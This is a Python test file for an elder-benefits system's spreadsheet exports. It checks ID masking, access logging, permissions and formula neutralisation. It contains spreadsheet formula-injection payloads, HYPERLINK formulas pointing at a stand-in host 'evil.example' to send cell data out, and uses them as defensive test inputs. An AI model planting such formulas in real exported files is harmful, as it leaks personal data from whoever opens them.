"""Exports of payment lists and rounds (.xlsx): masked ID numbers unless a reason (事由) is
stated, an access-log row for every export, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import pytest

from tests import factories
from yiyang.core.exceptions import ApplicationError, FieldErrors, ForbiddenError
from yiyang.core.models import AccessLog, Event
from yiyang.elders.models import Elder
from yiyang.elders.tests.test_api import assert_error
from yiyang.entitlements import payments
from yiyang.entitlements.exports import XLSX_CONTENT_TYPE, excel_safe
from yiyang.entitlements.models import Benefit
from yiyang.entitlements.tests.payment_helpers import AGE, STREET, api_for, sheet_rows

URL = f"/api/v1/benefits/{AGE}/recipients/export"


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-3", "@SUM(A1)",
                                  "\t=1", "=1"])
def test_excel_safe_neutralises_formula_text(text):
    assert excel_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["王秀英", "4403**********1234", "", "a=b", 12, 1.5, None])
def test_excel_safe_leaves_the_rest_alone(value):
    assert excel_safe(value) == value


def benefit():
    return Benefit.objects.get(code=AGE)


def test_list_export_masks_ids_without_a_reason_and_logs_it(street_admin, people):
    file = payments.recipients_export(actor=street_admin, benefit=benefit(), remote_addr="10.0.0.8")
    rows = sheet_rows(file.content)
    assert rows[0] == ("序号", "姓名", "身份证号", "年龄", "街道", "社区", "社区代码", "状态", "起始日期")
    assert [r[1] for r in rows[1:]] == ["王秀", "王秀英", "李桂"] and file.rows == 3
    a1 = people["a1"]
    assert rows[1][2] == a1.id_number_masked and rows[1][3] == 82
    assert rows[1][4:8] == ("梅林街道", "梅京社区", factories.COMMUNITY_A, "可享受")
    assert all(a1.id_number not in str(c) for r in rows for c in r)
    log = AccessLog.objects.get()
    assert (log.actor, log.action, log.elder_id, log.region_code, log.remote_addr) == (
        street_admin, "export", None, STREET, "10.0.0.8")
    assert log.purpose == "导出发放名单（身份证号已遮蔽）"
    assert "身份证号（已遮蔽）" in log.fields and "姓名" in log.fields and "高龄津贴" in log.fields[0]
    about = dict(r[:2] for r in sheet_rows(file.content, sheet=1))
    assert about["身份证号"] == "已遮蔽" and about["人数"] == 3
    assert Event.objects.filter(type="entitlement.recipients_exported", actor=street_admin).count() == 1


def test_list_export_with_a_reason_has_full_ids_and_the_reason_in_the_log(community_admin, people):
    file = payments.recipients_export(actor=community_admin, benefit=benefit(), purpose="银行代发核对")
    rows = sheet_rows(file.content)
    assert [r[2] for r in rows[1:]] == [people["a1"].id_number, people["a2"].id_number]
    log = AccessLog.objects.get()
    assert log.purpose == "银行代发核对" and "身份证号" in log.fields and log.region_code == factories.COMMUNITY_A


def test_a_one_character_reason_is_refused_and_nothing_is_logged(street_admin, people):
    with pytest.raises(FieldErrors) as exc:
        payments.recipients_export(actor=street_admin, benefit=benefit(), purpose=" 查 ")
    assert "2个字" in exc.value.errors["purpose"][0]
    assert not AccessLog.objects.exists()


def test_the_filter_node_is_logged_and_limits_the_file(street_admin, people):
    file = payments.recipients_export(actor=street_admin, benefit=benefit(), region=factories.COMMUNITY_A2)
    assert [r[1] for r in sheet_rows(file.content)[1:]] == ["李桂"]
    assert AccessLog.objects.get().region_code == factories.COMMUNITY_A2


def test_formula_names_are_written_as_text(street_admin, people):
    evil = '=HYPERLINK("http://evil.example/steal","点我")'
    Elder.objects.filter(pk=people["a1"].pk).update(name=evil)
    rows = sheet_rows(payments.recipients_export(actor=street_admin, benefit=benefit()).content)
    assert "'" + evil in [r[1] for r in rows]
    assert all(not (isinstance(c, str) and c.startswith("=")) for r in rows for c in r)


def test_export_needs_the_capability(point_lead, people):
    with pytest.raises(ForbiddenError):
        payments.recipients_export(actor=point_lead, benefit=benefit())
    assert_error(api_for(point_lead).post(URL, {}), 403, "forbidden")
    assert not AccessLog.objects.exists()


def test_list_export_through_the_api(street_admin, people):
    api = api_for(street_admin)
    resp = api.post(URL, {"region": factories.COMMUNITY_A, "purpose": "社保核对"})
    assert resp.status_code == 200 and resp["Content-Type"] == XLSX_CONTENT_TYPE
    assert resp["Content-Disposition"].startswith("attachment; filename*=utf-8''")
    assert resp["Cache-Control"] == "no-store"
    rows = sheet_rows(resp.content)
    assert [r[2] for r in rows[1:]] == [people["a1"].id_number, people["a2"].id_number]
    masked = sheet_rows(api.post(URL, {}).content)
    assert all("*" in r[2] for r in masked[1:]) and len(masked) > 1
    assert AccessLog.objects.count() == 2
    assert_error(api.post(URL, {"purpose": "x"}), 400, "validation_error")
    assert_error(api.post(URL, {"status": "not"}), 422, "validation_error")
    assert_error(api.post("/api/v1/benefits/nope/recipients/export", {}), 404, "not_found")
    assert AccessLog.objects.count() == 2
    assert api.post(URL, {"reason": "别名也可以"}).status_code == 200
    assert AccessLog.objects.order_by("-id").first().purpose == "别名也可以"


# -- rounds ------------------------------------------------------------------------------------


def round_of(drafter, approver):
    r = payments.round_draft(actor=drafter, benefit=AGE, region_code=STREET)
    payments.round_submit(actor=drafter, round=r)
    return r, approver


def test_only_an_approved_round_is_exported_and_the_first_export_marks_it(street_admin, district_admin, people):
    r, approver = round_of(street_admin, district_admin)
    with pytest.raises(ApplicationError) as exc:
        payments.round_export(actor=district_admin, round=r)
    assert exc.value.code == "round_not_approved" and not AccessLog.objects.exists()
    payments.round_approve(actor=approver, round=r)
    file = payments.round_export(actor=street_admin, round=r)
    r.refresh_from_db()
    assert (r.status, r.exported_by) == ("exported", street_admin)
    first_at = r.exported_at
    rows = sheet_rows(file.content)
    assert [x[1] for x in rows[1:]] == ["王秀", "王秀英", "李桂"] and all("*" in x[2] for x in rows[1:])
    log = AccessLog.objects.get()
    assert log.purpose == "导出发放名单（身份证号已遮蔽）" and log.region_code == STREET and log.action == "export"
    assert f"第{r.pk}号" in log.fields[0]
    # Again, with a reason: full numbers, logged again, still the first export's time.
    file = payments.round_export(actor=district_admin, round=r, purpose="银行代发")
    assert sheet_rows(file.content)[1][2] == people["a1"].id_number
    r.refresh_from_db()
    assert r.exported_at == first_at and r.exported_by == street_admin
    assert list(AccessLog.objects.order_by("id").values_list("purpose", flat=True)) == [
        "导出发放名单（身份证号已遮蔽）", "银行代发"]
    exported = Event.objects.filter(type="entitlement.round_exported").order_by("occurred_at")
    assert [e.payload["first"] for e in exported] == [True, False]


def test_a_round_export_keeps_what_was_frozen(street_admin, district_admin, people):
    r, approver = round_of(street_admin, district_admin)
    payments.round_approve(actor=approver, round=r)
    Elder.objects.filter(pk=people["a1"].pk).update(name="改了名")
    rows = sheet_rows(payments.round_export(actor=street_admin, round=r).content)
    assert "王秀" in [x[1] for x in rows] and "改了名" not in [x[1] for x in rows]
    about = dict(x[:2] for x in sheet_rows(payments.round_export(actor=street_admin, round=r).content, sheet=1))
    assert about["发放批次"] == f"第{r.pk}号" and about["人数"] == 3 and "梅林街道" in about["区划"]
